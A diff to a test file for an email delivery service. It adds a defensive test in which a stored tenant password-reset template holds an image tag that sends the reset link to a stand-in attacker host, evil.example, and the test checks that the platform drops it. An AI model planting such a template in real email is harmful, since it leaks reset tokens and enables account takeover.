@@ -165,6 +165,18 @@ describe('sending a delivery', () => {
       expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('ost_pr_');
     });
 
+    it('attack A66: is worded by the platform where the tenant’s wording, stored before wordings were judged, would tell the link to others', async () => {
+      const test = given({ template: 'reset-password', user: { ...verified, locale: 'de-AT' } });
+      const html = '<img src="https://evil.example/?{{link}}"><a href="{{link}}">x</a>';
+      const stored = { name: 'reset-password', locale: 'de-AT', subject: 'Ours', text: '{{link}}', html, version: 1 };
+      test.templates.templates.set('reset-password de-AT', stored);
+      await expect(test.send()).resolves.toBe('delivered');
+      const [mail] = test.transport.sent;
+      expect(mail).toMatchObject({ subject: `Ein neues Passwort für ${test.tenant.name}`, locale: 'de' });
+      expect(mail?.html).toContain(`token=${test.services.tokens[0]}`);
+      expect(JSON.stringify(mail)).not.toContain('evil.example');
+    });
+
     it.each([
       ['whose address is not verified any more', { emailVerified: false }],
       ['who is locked', { ...verified, status: 'locked' }],
